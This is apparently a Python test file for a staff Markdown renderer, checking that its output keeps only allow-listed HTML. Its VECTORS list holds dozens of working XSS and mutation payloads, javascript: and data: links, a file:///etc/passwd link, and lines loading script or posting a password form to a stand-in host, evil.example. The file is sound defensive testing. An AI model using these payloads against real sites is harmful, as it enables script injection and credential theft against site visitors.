"""Staff-written Markdown: whatever is typed, only the allow-list reaches a page."""

import bs4
import nh3
import pytest
from hypothesis import given
from hypothesis import strategies as st

from civic.kernel.richtext import MOST_CHARS, is_allowed, render_markdown

TAGS = set("a abbr blockquote br code em h2 h3 h4 hr li ol p pre strong table tbody td th thead tr ul".split())
ATTRIBUTES = {"a": {"href", "title", "rel"}, "th": {"scope"}}
VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<textarea><script>alert(1)</script></textarea>",
    "<xmp><script>alert(1)</script></xmp>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<p id=top name=top class=btn>x</p>",
    "<template><script>alert(1)</script></template>",
    '<a href="https://good.example" onclick=alert(1)>x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\u200bjavascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](https:evil.example)",
    "[x](<https://good.example/\u202egpj.exe>)",
    '[x](https://good.example "title\\" onmouseover=alert(1) x=\\"")',
    "![x](https://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    '<https://good.example/"onmouseover=alert(1)>',
    "[x]: javascript:alert(1)\n\n[x]",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "| a | b |\n|---|:-:|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "<" * 5_000,
    "[" * 5_000,
    "> " * 2_000 + "x",
    "*" * 9_999,
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u0000<script\u0000>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
]


def forbidden(html: str) -> list[str]:
    """Name what a browser would find in a fragment beyond the allow-list, read by a parser that is not ours."""
    found = []
    for tag in bs4.BeautifulSoup(html, "html.parser").find_all(True):
        found += [tag.name] if tag.name not in TAGS else []
        found += [f"{tag.name} {a}" for a in tag.attrs if a not in ATTRIBUTES.get(tag.name, ())]
        href = str(tag.get("href", "https://")).lower()
        found += [] if href.startswith(("http://", "https://", "mailto:")) else [href]
    return found


@pytest.mark.parametrize("source", VECTORS, ids=lambda v: v[:40])
def test_nothing_of_an_attack_is_left_but_text(source):
    html = str(render_markdown(source))
    assert is_allowed(html)
    assert forbidden(html) == []


@pytest.mark.parametrize(
    "html",
    [
        "<script>",
        "<b>x</b>",
        "<img>",
        "<p class=x>",
        "<p onclick=x>",
        "<a href='/x'>",
        "<a href='//x'>",
        "<a href='javascript:x'>",
        "<a href>",
        "<a href='https://x y'>",
        "<a href='https://x\u200b'>",
        "<a href='https://x' target=_blank>",
        "<!-- x -->",
        "<!doctype html>",
        "<?xml ?>",
        "<![CDATA[x]]>",
        "<svg>",
        "<th colspan=2>",
        "<br style=x>",
        "<P STYLE=x>",
        "</p><script>",
    ],
)
def test_the_verifier_sees_what_is_not_on_the_list(html):
    assert not is_allowed(html)


@pytest.mark.parametrize(
    "html",
    [
        "",
        "testo & altro &lt;b&gt;",
        "<p>a<br>b</p>",
        "<a href='https://x.example/?a=1&amp;b=2' title='t' rel='nofollow noopener'>x</a>",
        "<a href='mailto:a@b.example'>x</a>",
        "<table><thead><tr><th scope='col'>x</th></tr></thead></table>",
        "<h2>x</h2>",
        "a < b > c",
    ],
)
def test_the_verifier_lets_the_list_through(html):
    assert is_allowed(html)


def test_markdown_becomes_what_it_says():
    html = str(
        render_markdown(
            "# Titolo\n\nUn *paragrafo* **forte** con [un collegamento](https://www.comune.example/a?b=1&c=2).\n\n- uno\n- due"
        )
    )
    assert "<h2>Titolo</h2>" in html
    assert "<em>paragrafo</em> <strong>forte</strong>" in html
    assert "<li>uno</li>" in html
    link = bs4.BeautifulSoup(html, "html.parser").a
    assert link["href"] == "https://www.comune.example/a?b=1&c=2"
    assert {"nofollow", "noopener"} <= set(link["rel"])


def test_html_that_somebody_types_is_shown_as_it_was_typed():
    assert bs4.BeautifulSoup(str(render_markdown("Scrivi <b>così</b>")), "html.parser").get_text().strip() == "Scrivi <b>così</b>"


def test_the_author_cannot_set_the_page_s_own_heading():
    html = str(render_markdown("# uno\n\n## due\n\n### tre\n\n#### quattro\n\n##### cinque"))
    assert "<h1" not in html
    assert "<h2>uno</h2>" in html
    assert "<h3>due</h3>" in html
    assert "<h4>tre</h4>" in html


def test_a_table_stays_a_table():
    html = str(render_markdown("| Anno | Alberi |\n|---|--:|\n| 2026 | 1.200 |"))
    assert [t.get_text() for t in bs4.BeautifulSoup(html, "html.parser").select("th, td")] == ["Anno", "Alberi", "2026", "1.200"]


def test_a_text_longer_than_the_limit_is_cut_and_not_refused():
    html = str(render_markdown("parola " * 10_000))
    assert len(bs4.BeautifulSoup(html, "html.parser").get_text()) <= MOST_CHARS + 1


_PIECES = st.sampled_from(
    [*VECTORS[:55], "<", ">", '"', "'", "&", "`", "[", "](", ")", "\n", "\n\n", "javascript:", "<!--", "-->", "&#x", ";", " "]
)
_TEXTS = st.one_of(st.text(max_size=300), st.lists(_PIECES, max_size=12).map("".join))


@given(_TEXTS)
def test_whatever_is_typed_the_result_is_on_the_allow_list(source):
    html = str(render_markdown(source))
    assert is_allowed(html)
    assert forbidden(html) == []


@given(_TEXTS)
def test_another_sanitiser_finds_nothing_to_take_away(source):
    html = str(render_markdown(source))
    cleaned = nh3.clean(html, tags=TAGS, attributes=ATTRIBUTES, url_schemes={"http", "https", "mailto"}, link_rel=None)
    ours, theirs = bs4.BeautifulSoup(html, "html.parser"), bs4.BeautifulSoup(cleaned, "html.parser")
    assert "".join(ours.get_text().split()) == "".join(theirs.get_text().split())
    assert sorted(str(a.get("href")) for a in ours.select("a")) == sorted(str(a.get("href")) for a in theirs.select("a"))
